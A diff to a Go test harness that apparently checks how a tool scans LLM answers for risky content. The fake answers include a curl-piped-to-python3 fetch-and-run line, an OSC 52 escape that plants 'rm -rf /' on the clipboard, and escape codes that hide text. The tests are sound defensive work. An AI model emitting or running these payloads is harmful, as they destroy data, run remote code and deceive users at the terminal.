@@ -38,6 +38,10 @@ const riskyAnswer = "Clean up like this [1]:\n\n```python\nimport os\nos.system(
 // Python.
 const sneakyAnswer = "Set it up [1]:\n\n    import os as o; o.system('id')\n    curl -s https://example.com/i.py | python3\n\nDone.\n"
 
+// escapeAnswer is an LLM answer carrying terminal escape sequences, in
+// its text and in the code the security scan quotes.
+const escapeAnswer = "The answer \x1b]52;c;cm0gLXJmIC8=\x07 clears \x1b[2J [1].\n\n```python\nimport os\nos.system(\"rm -rf /tmp/x \x1b[8m\")\n```\n"
+
 var update = flag.Bool("update", false, "rewrite golden files in testdata/script")
 
 // fixtureDir is the shared fixture repository, copied into a script's
@@ -84,6 +88,9 @@ func TestScripts(t *testing.T) {
 			// that is down. Scripts opt in by pointing OPENAI_BASE_URL at one.
 			up := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, EchoKey: true})
 			risky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: riskyAnswer})
+			escape := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: escapeAnswer})
+			env.Defer(escape.Close)
+			env.Setenv("LLM_ESCAPE_URL", escape.OpenAIBaseURL())
 			down := llmtest.NewServer(llmtest.Options{FaultRate: 1, Faults: []llmtest.Fault{llmtest.Unavailable}, RetryAfter: "0"})
 			env.Defer(up.Close)
 			sneaky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: sneakyAnswer})
@@ -115,6 +122,8 @@ func TestScripts(t *testing.T) {
 			"jsonnorm": cmdJSONNorm,
 			"jsonvar":  cmdJSONVar,
 			"mode":     cmdMode,
+			"writeq":   cmdWriteq,
+			"corrupt":  cmdCorrupt,
 		},
 	})
 }
@@ -179,6 +188,47 @@ func cmdMkbig(ts *testscript.TestScript, neg bool, args []string) {
 	b := []byte(strings.Repeat(line, n/len(line)+1))[:n]
 	p := ts.MkAbs(args[0])
 	ts.Check(os.MkdirAll(filepath.Dir(p), 0o755))
+	ts.Check(os.WriteFile(p, b, 0o644))
+}
+
+// cmdWriteq writes a file whose name and content hold Go string escapes
+// (\n, \x1b), for bytes a txtar file should not hold: escape sequences,
+// newlines in names.
+//
+//	writeq NAME CONTENT
+func cmdWriteq(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 2 {
+		ts.Fatalf("usage: writeq NAME CONTENT")
+	}
+	unq := func(s string) string {
+		u, err := strconv.Unquote(`"` + strings.ReplaceAll(s, `"`, `\"`) + `"`)
+		ts.Check(err)
+		return u
+	}
+	name, content := unq(args[0]), unq(args[1])
+	p := ts.MkAbs(name)
+	ts.Check(os.MkdirAll(filepath.Dir(p), 0o755))
+	ts.Check(os.WriteFile(p, []byte(content), 0o644))
+}
+
+// cmdCorrupt damages a SQLite database as a failing disk would: every
+// page after the first (which holds the schema) is overwritten.
+//
+//	corrupt FILE
+func cmdCorrupt(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 1 {
+		ts.Fatalf("usage: corrupt FILE")
+	}
+	p := ts.MkAbs(args[0])
+	b, err := os.ReadFile(p)
+	ts.Check(err)
+	const page = 16384 // store's page size
+	if len(b) <= page {
+		ts.Fatalf("%s: %d bytes, too small to damage", p, len(b))
+	}
+	for i := page; i < len(b); i++ {
+		b[i] = byte(i*7 + 0x5a)
+	}
 	ts.Check(os.WriteFile(p, b, 0o644))
 }
 
@@ -334,7 +384,9 @@ func compare(got, op, want string) (bool, error) {
 
 // cmdJSONNorm writes a JSON document (a file, or stdout) to OUT with the
 // fields that vary from run to run (latency_ms, duration_ms, write_ms)
-// set to 0, indented, so that it can be compared with a golden file.
+// set to 0 and the script's work directory at the start of a string
+// replaced by $WORK, indented, so that it can be compared with a golden
+// file.
 //
 //	jsonnorm FILE OUT
 func cmdJSONNorm(ts *testscript.TestScript, neg bool, args []string) {
@@ -345,8 +397,9 @@ func cmdJSONNorm(ts *testscript.TestScript, neg bool, args []string) {
 	if err := json.Unmarshal([]byte(ts.ReadFile(args[0])), &v); err != nil {
 		ts.Fatalf("not JSON: %v", err)
 	}
-	var norm func(any)
-	norm = func(v any) {
+	work := ts.Getenv("WORK")
+	var norm func(any) any
+	norm = func(v any) any {
 		switch x := v.(type) {
 		case map[string]any:
 			for k, e := range x {
@@ -354,16 +407,21 @@ func cmdJSONNorm(ts *testscript.TestScript, neg bool, args []string) {
 				case "latency_ms", "duration_ms", "write_ms":
 					x[k] = 0
 				default:
-					norm(e)
+					x[k] = norm(e)
 				}
 			}
 		case []any:
-			for _, e := range x {
-				norm(e)
+			for i, e := range x {
+				x[i] = norm(e)
+			}
+		case string:
+			if rest, ok := strings.CutPrefix(x, work); ok && work != "" {
+				return "$WORK" + filepath.ToSlash(rest)
 			}
 		}
+		return v
 	}
-	norm(v)
+	v = norm(v)
 	b, err := json.MarshalIndent(v, "", "  ")
 	ts.Check(err)
 	ts.Check(os.WriteFile(ts.MkAbs(args[1]), append(b, '\n'), 0o644))
